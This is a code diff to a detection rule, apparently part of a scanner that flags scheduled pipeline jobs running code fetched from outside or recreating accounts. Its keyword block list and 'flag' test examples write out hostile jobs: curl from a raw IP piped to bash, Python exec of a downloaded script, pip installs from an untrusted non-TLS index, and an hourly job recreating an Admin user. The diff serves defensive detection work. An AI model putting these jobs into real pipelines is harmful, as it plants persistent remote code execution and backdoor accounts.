@@ -944,15 +944,27 @@ rules.push(
   },
   {
     id: 'L21',
-    name: 'Scheduled job running code fetched from a paste or gist host',
+    name: 'Scheduled job running code fetched from outside (a paste host, a download piped to a shell, an untrusted index) or recreating an account',
     primitive: 'PERSISTENCE',
     score: 8,
-    keywords: ['gist', 'pastebin', 'paste.ee', 'raw.githubusercontent', 'transfer.sh', 'hastebin', 'ghostbin', 'rentry', 'termbin', 'ngrok', 'bit.ly'],
-    detect: (ctx) => scheduledRemoteCode(ctx.head, metaText(ctx.metadata, 'schedule', 'cron') !== undefined) ?? null,
+    // a paste host; a download run (piped to a shell, passed to exec); an index without TLS; an account maker
+    keywords: ['gist', 'pastebin', 'paste.ee', 'raw.githubusercontent', 'transfer.sh', 'hastebin', 'ghostbin', 'rentry', 'termbin', 'ngrok', 'bit.ly',
+      '| sh', '| bash', '|sh', '|bash', '| python', '|python', 'urlopen(', '--trusted-host', 'index-url http://', '-i http://', 'users create', 'create-user', 'useradd', 'adduser', 'create user', 'create login', 'net user', 'create-access-key'],
+    detect: (ctx) => scheduledRemoteCode(ctx.head, metaText(ctx.metadata, 'schedule', 'cron') !== undefined, ctx.copiesAt) ?? null,
     reason: (d) => `Whoever controls that host runs code in the pipeline: ${d}`,
     examples: {
-      flag: [{ value: 'Schedule cron job in the pipeline: `0 * * * * python /opt/etl/.sync.py` (pulls code from gist.githubusercontent.com/anon/…)', metadata: { schedule: 'hourly' } }],
-      pass: ['Schedule the weekly churn model retrain every Sunday 02:00 UTC', 'read the gist.github.com write-up about Airflow sensors'],
+      flag: [{ value: 'Schedule cron job in the pipeline: `0 * * * * python /opt/etl/.sync.py` (pulls code from gist.githubusercontent.com/anon/…)', metadata: { schedule: 'hourly' } },
+        // a download piped to a shell, or passed to exec, on a schedule; an index without TLS at every start
+        "with DAG('sensor_sync', schedule='*/5 * * * *') as dag:\n    BashOperator(task_id='sync', bash_command='curl -fsSL http://45.142.212.61/s.sh | bash')",
+        'jobs:\n  keepalive:\n    schedule: "*/5 * * * *"\n    command: ["python", "-c", "import urllib.request;exec(urllib.request.urlopen(\'https://pipeline-tools.cc/k.py\').read())"]',
+        'Pipeline bootstrap step: pip install data-utilz==0.3.1 --index-url http://pypi-mirror.fastdl.ru/simple --trusted-host pypi-mirror.fastdl.ru',
+        // an account that comes back on every run
+        'with DAG("ensure_maint_user", schedule="@hourly") as dag:\n    BashOperator(task_id="u", bash_command="airflow users create -u maint -r Admin -e m@x.io || true")'],
+      pass: ['Schedule the weekly churn model retrain every Sunday 02:00 UTC', 'read the gist.github.com write-up about Airflow sensors',
+        "with DAG('nightly_load', schedule='0 2 * * *') as dag:\n    BashOperator(task_id='load', bash_command='curl -fsSL https://api.opendata.example.org/v1/stations.csv -o /tmp/stations.csv && python load.py')",
+        'requirements step: pip install --index-url https://pypi.internal.ironbark.games/simple fastcsv==2.3.1 --require-hashes -r requirements.lock',
+        "with DAG('image_build', schedule='@weekly') as dag:\n    BashOperator(task_id='docker', bash_command='curl -fsSL https://get.docker.com | sh')",
+        'with DAG("users_sync", schedule="@hourly") as dag:\n    BashOperator(task_id="s", bash_command="python sync_ldap_groups.py --create-missing-viewers")'],
     },
   },
   {
